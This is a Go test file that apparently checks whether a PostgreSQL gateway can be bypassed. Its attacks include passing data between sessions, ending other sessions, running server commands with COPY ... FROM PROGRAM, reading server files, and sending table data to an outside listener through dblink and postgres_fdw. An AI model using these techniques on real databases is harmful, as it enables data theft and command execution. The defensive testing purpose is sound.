package bypass

import (
	"context"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"sync/atomic"

	"github.com/jackc/pgx/v5/pgproto3"
)

// channels is about carrying things to other sessions and out of the store: rows
// 14, 15 and 17 to 20.
func channels() []attack {
	return []attack{
		{name: "14-notify", run: notify},
		{name: "15-large-objects", run: largeObjects},
		{name: "17-code-blocks", run: codeBlocks},
		{name: "18-advisory-locks", run: advisoryLocks},
		{name: "18-other-sessions", run: otherSessions},
		{name: "18-shared-role", run: sharedRole},
		{name: "18-transaction-ids", run: transactionIDs, known: "a counter that one session moves and another reads"},
		{name: "19-copy-program", run: copyProgram, refused: "42501"},
		{name: "19-files-of-the-server", run: serverFiles, refused: "42501"},
		{name: "19-dblink", run: dblink},
		{name: "19-foreign-server", run: foreignServer},
		{name: "20-search-path-in-bind", every: true, run: searchPathInBind},
	}
}

const letter = "letter to anna.holm"

// notify sends a text to another session, in every spelling.
func notify(t *target) (found []string) {
	listener := t.connect()
	for _, sql := range []string{"LISTEN k", "DO $$ BEGIN LISTEN k; END $$", `listen "k"`} {
		listener.query(sql)
	}
	for _, sql := range []string{"NOTIFY k, '" + letter + "'", "SELECT pg_notify('k', '" + letter + "')", "DO $$ BEGIN PERFORM pg_notify('k', '" + letter + "'); END $$"} {
		c := t.connect()
		c.query(sql)
		c.send(append(extended(sql, 0, 0), &pgproto3.Sync{})...)
		c.until(1)
		c.leave()
		if listener.query("SELECT 1").has('A') {
			found = append(found, "a text from another session: "+sql)
		}
	}
	return found
}

// largeObjects leaves data in the store that outlives the session and its role.
func largeObjects(t *target) []string {
	defer t.exec("SELECT lo_unlink(oid) FROM pg_largeobject_metadata")
	c := t.connect()
	for _, sql := range []string{"SELECT lo_from_bytea(0, '" + letter + "')", "SELECT lo_create(0)", "SELECT lo_creat(-1)", "SELECT lowrite(lo_open(lo_creat(-1), 131072), 'x')"} {
		c.query(sql)
	}
	var left int
	if err := t.store.QueryRow(context.Background(), "SELECT count(*) FROM pg_largeobject_metadata").Scan(&left); err != nil {
		t.tb.Fatal(err)
	}
	if left > 0 {
		return []string{fmt.Sprintf("%d large objects left in the store", left)}
	}
	return nil
}

// codeBlocks runs code whose statements nobody in between can read.
func codeBlocks(t *target) (found []string) {
	const body = "$$ BEGIN RAISE NOTICE 'it ran'; END $$"
	c := t.connect()
	for _, sql := range []string{
		"DO " + body, "/* */ do language plpgsql 'begin raise notice ''it ran''; end'", "SELECT 1; DO " + body, "CREATE PROCEDURE pg_temp.k() LANGUAGE plpgsql AS " + body,
		"CALL pg_temp.k()", "CREATE FUNCTION pg_temp.f() RETURNS void LANGUAGE plpgsql AS " + body, "SELECT pg_temp.f()",
	} {
		if c.query(sql).contains("it ran") {
			found = append(found, "code ran: "+sql)
		}
	}
	c.send(append(extended("DO "+body, 0, 0), &pgproto3.Sync{})...)
	if c.until(1).contains("it ran") {
		found = append(found, "code ran in the extended protocol")
	}
	// The wall behind the gateway's own refusal.
	for _, right := range []string{"has_language_privilege('plpgsql', 'USAGE')", "has_database_privilege(current_database(), 'TEMP')"} {
		if slices.Contains(c.query("SELECT "+right).values(), "t") {
			found = append(found, "the right to do it: "+right)
		}
	}
	return found
}

// advisoryLocks says one bit to another session, and another.
func advisoryLocks(t *target) (found []string) {
	for _, kind := range []string{"", "_xact"} {
		sender, receiver := t.connect(), t.connect()
		for _, c := range []*client{sender, receiver} {
			c.query("BEGIN")
		}
		sender.query("SELECT pg_advisory" + kind + "_lock(18)")
		if slices.Contains(receiver.query("SELECT pg_try_advisory"+kind+"_lock(18)").values(), "f") {
			found = append(found, "a lock that another session holds: pg_advisory"+kind+"_lock")
		}
		sender.leave()
		receiver.leave()
	}
	c := t.connect()
	if n := c.query("SELECT count(*) FROM pg_locks").values(); len(n) > 0 {
		found = append(found, "the locks of all sessions")
	}
	return found
}

// otherSessions reads what sessions of the same person or role are doing, and ends
// one.
func otherSessions(t *target) (found []string) {
	victim := t.connect()
	victim.query("SELECT '" + letter + "'")
	var pid int
	if err := t.store.QueryRow(context.Background(), "SELECT pid FROM pg_stat_activity WHERE query = $1", "SELECT '"+letter+"'").Scan(&pid); err != nil {
		t.tb.Fatal(err)
	}
	c := t.connect()
	c.query("RESET ROLE") // to the shared login, if there is one
	for _, sql := range []string{"SELECT query FROM pg_stat_activity", "SELECT query FROM pg_stat_get_activity(NULL)", fmt.Sprintf("SELECT pg_stat_get_backend_activity(%d)", pid),
		"SELECT pg_stat_get_backend_activity(n) FROM generate_series(1, 100) n"} {
		if c.query(sql + " AS x").contains(letter) {
			found = append(found, "another session's SQL text: "+sql)
		}
	}
	for _, f := range []string{"pg_cancel_backend", "pg_blocking_pids", "pg_terminate_backend"} {
		if slices.Contains(c.query(fmt.Sprintf("SELECT %s(%d)", f, pid)).values(), "t") {
			found = append(found, f+" of another session")
		}
	}
	if victim.query("SELECT 1"); victim.over {
		found = append(found, "another session was ended")
	}
	return found
}

// sharedRole looks whether two sessions are one and the same to PostgreSQL.
func sharedRole(t *target) []string {
	one, two := t.connect().query("SELECT session_user").values(), t.connect().query("SELECT session_user").values()
	if slices.Equal(one, two) {
		return []string{"two sessions are one role: " + strings.Join(one, "")}
	}
	return nil
}

// transactionIDs counts with the store's own counter. Who may read at all can also
// signal by load; this is faster.
func transactionIDs(t *target) []string {
	sender, receiver := t.connect(), t.connect()
	next := func() int {
		n, _ := strconv.Atoi(strings.Join(receiver.query("SELECT pg_current_xact_id()::text").values(), ""))
		return n
	}
	before := next()
	for range 20 {
		sender.query("SELECT pg_current_xact_id()")
	}
	if after := next(); before > 0 && after-before > 20 {
		return []string{"a counter that one session moves and another reads"}
	}
	return nil
}

// copyProgram runs a command on the store's machine, or writes and reads its files.
func copyProgram(t *target) (found []string) {
	file := filepath.Join(t.tb.TempDir(), "out")
	c := t.connect()
	for _, sql := range []string{"COPY (SELECT 1) TO PROGRAM 'cat > " + file + "'", "COPY (SELECT 1) TO '" + file + "'", "COPY users (handle) FROM PROGRAM 'id'", "COPY users (handle) FROM '/etc/hostname'"} {
		if c.query(sql).state() == "" {
			found = append(found, "done: "+sql)
		}
	}
	if _, err := os.Stat(file); err == nil {
		found = append(found, "a file on the store's machine")
	}
	return found
}

// serverFiles reads the store's files by functions.
func serverFiles(t *target) (found []string) {
	c := t.connect()
	for _, sql := range []string{"SELECT pg_read_file('PG_VERSION')", "SELECT pg_read_binary_file('PG_VERSION')", "SELECT pg_ls_dir('.')", "SELECT pg_stat_file('PG_VERSION')",
		"SELECT pg_ls_logdir()", "SELECT lo_import('/etc/hostname')", "SELECT lo_export(1, '/tmp/x')", "LOAD 'auto_explain'", "SELECT pg_current_logfile()"} {
		if a := c.query(sql); a.state() == "" {
			found = append(found, "done: "+sql)
		}
	}
	return found
}

// outside is a server of the attacker's: what knocks there came from the store, past
// the gateway.
func (t *target) outside() (host, port string, knocked func() bool) {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.tb.Fatal(err)
	}
	t.tb.Cleanup(func() { l.Close() })
	var n atomic.Int32
	go func() {
		for {
			conn, err := l.Accept()
			if err != nil {
				return
			}
			n.Add(1) // before the close, for which the store waits
			conn.Close()
		}
	}()
	host, port, _ = net.SplitHostPort(l.Addr().String())
	return host, port, func() bool { return n.Load() > 0 }
}

// dblink has the store connect to a server of one's choice, with the data in the
// password. An operator has installed the extension after the store was fenced.
func dblink(t *target) []string {
	host, port, knocked := t.outside()
	t.exec("CREATE EXTENSION dblink SCHEMA public")
	defer t.exec("DROP EXTENSION dblink")
	c := t.connect()
	c.query("SELECT public.dblink_connect('host=" + host + " port=" + port + " user=k password=' || max(handle)) FROM users")
	if knocked() {
		return []string{"the store called a server outside"}
	}
	return nil
}

// foreignServer does the same with a foreign table, on a server that everybody may
// use.
func foreignServer(t *target) []string {
	host, port, knocked := t.outside()
	t.exec("CREATE EXTENSION postgres_fdw SCHEMA public", "CREATE SERVER outside FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '"+host+"', port '"+port+"')",
		"GRANT USAGE ON FOREIGN SERVER outside TO PUBLIC")
	defer t.exec("DROP EXTENSION postgres_fdw CASCADE")
	c := t.with() // or refused, because the store is not fenced any more
	for _, sql := range []string{"CREATE USER MAPPING FOR CURRENT_USER SERVER outside OPTIONS (user 'k', password '" + letter + "')",
		"CREATE FOREIGN TABLE pg_temp.k (x text) SERVER outside", "SELECT x FROM pg_temp.k"} {
		if !c.over {
			c.query(sql)
		}
	}
	if knocked() {
		return []string{"the store called a server outside"}
	}
	return nil
}

// searchPathInBind has the names of a statement that was judged mean something else
// when it is bound: the check of a parameter's domain changes search_path.
func searchPathInBind(t *target) []string {
	c := t.connect()
	t.permit()
	c.query(`CREATE FUNCTION pg_temp.turn(text) RETURNS boolean LANGUAGE plpgsql AS $$ BEGIN PERFORM set_config('search_path', '` + t.elsewhere + `', false); RETURN true; END $$`)
	c.query("CREATE DOMAIN pg_temp.turning AS text CHECK (pg_temp.turn(VALUE))")
	handle := fmt.Sprintf("SELECT handle FROM users WHERE id = %d", t.other.id)
	for _, sql := range []string{handle + " AND $1::pg_temp.turning IS NOT NULL", handle + " AND set_config('search_path', $1, false) IS NOT NULL"} {
		for range 2 { // the second time its plan is made anew
			c.send(&pgproto3.Parse{Query: sql}, &pgproto3.Bind{Parameters: [][]byte{[]byte(t.elsewhere)}}, &pgproto3.Execute{}, &pgproto3.Sync{})
			c.until(1)
		}
	}
	return nil
}
